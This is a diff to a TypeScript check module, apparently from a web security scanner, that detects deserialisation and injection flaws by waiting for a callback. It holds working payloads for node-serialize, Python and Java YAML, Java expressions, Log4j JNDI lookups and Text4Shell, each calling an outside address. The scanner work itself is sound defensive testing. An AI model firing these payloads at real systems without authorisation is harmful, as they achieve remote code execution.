@@ -2,7 +2,7 @@
 
 import { percentDecoded } from '../../core/percent.ts'
 import { isSettled, settle } from '../found.ts'
-import { expectCall, takesText, textValue } from '../probing.ts'
+import { type CallAddress, expectCall, takesText, textValue } from '../probing.ts'
 import type { Context, Operation, Point, PointCheck } from '../types.ts'
 
 const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){require('http').get('${url}')}()"}`
@@ -15,9 +15,12 @@ const yaml = (url: string) => `!!python/object/apply:os.system ["${command(url).
 /** The class path of SnakeYAML's own classes leads to the address, where a list of what it offers is looked for. */
 const yamlOfJava = (url: string) =>
   `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}/"]]]]`
-/** The token stands behind the address only once the expression was computed: what calls addresses in texts has it not. */
+/**
+ * The token stands behind the address only once the expression was computed: what calls addresses in texts has it not, as these end at
+ * a blank at the latest.
+ */
 const expression = (host: string, token: string) =>
-  `new java.net.URL("http://${host}/".concat("${token}")).openStream()`
+  `new java.net.URL("http://${host}/" .concat("${token}")).openStream()`
 const yamlOfNode = (url: string) => `!!js/function "function(){require('http').get('${url}')}()"`
 const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
 const text4 = (host: string, token: string) => `\${script:javascript:${expression(host, token)}}`
@@ -25,9 +28,14 @@ const text4 = (host: string, token: string) => `\${script:javascript:${expressio
 type Payload = {
   name: string
   cwe: number
-  of: (address: { url: string; host: string; token: string }) => string
+  of: (address: CallAddress) => string
   fits: (text: string, point: Point) => boolean
+  /** whether running the payload asks for this path, where what shows links in texts asks for another */
+  isMade?: (path: string, address: CallAddress) => boolean
 }
+
+const isExactly = (path: string, { token }: CallAddress) => path.startsWith(`/${token} `)
+const isListOfOffers = (path: string, { token }: CallAddress) => path.startsWith(`/${token}/META-INF/services/`)
 
 /** Of what is no object that is read back. */
 const TITLES: Readonly<Record<number, string>> = { 94: 'Code injection', 917: 'A lookup in the value is followed' }
@@ -75,15 +83,23 @@ const payloads: readonly Payload[] = [
     of: ({ url }) => yamlOfJava(url),
     fits: (text, point) =>
       point.place === 'file' || /yaml|yml|config|import|data|content/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
+    isMade: isListOfOffers,
   },
   {
     name: 'an expression of Java',
     cwe: 94,
     of: ({ host, token }) => expression(host, token),
     fits: (_, point) => point.place !== 'file',
+    isMade: isExactly,
   },
   { name: 'a lookup of Log4j', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
-  { name: 'a script of Text4Shell', cwe: 94, of: ({ host, token }) => text4(host, token), fits: () => true },
+  {
+    name: 'a script of Text4Shell',
+    cwe: 94,
+    of: ({ host, token }) => text4(host, token),
+    fits: () => true,
+    isMade: isExactly,
+  },
 ]
 
 export const deserialisation: PointCheck = {
@@ -108,7 +124,12 @@ export const deserialisation: PointCheck = {
   },
 }
 
-async function send({ name, cwe, of }: Payload, point: Point, operation: Operation, context: Context): Promise<void> {
+async function send(
+  { name, cwe, of, isMade }: Payload,
+  point: Point,
+  operation: Operation,
+  context: Context,
+): Promise<void> {
   await expectCall(
     operation,
     context,
@@ -125,5 +146,6 @@ async function send({ name, cwe, of }: Payload, point: Point, operation: Operati
         exchange,
       })
     },
+    isMade,
   )
 }
